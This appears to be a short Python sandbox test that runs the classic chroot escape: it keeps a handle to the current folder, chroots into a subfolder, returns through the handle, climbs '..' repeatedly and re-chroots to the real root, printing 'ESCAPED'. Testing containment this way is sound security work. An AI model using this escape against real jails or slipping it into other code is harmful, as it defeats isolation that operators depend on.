"""The classical way out of a changed root folder."""

# ends: ok
import os

try:
    os.mkdir("inner")
    up = os.open(".", os.O_RDONLY)
    os.chroot("inner")
    os.fchdir(up)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED")
except OSError:
    pass
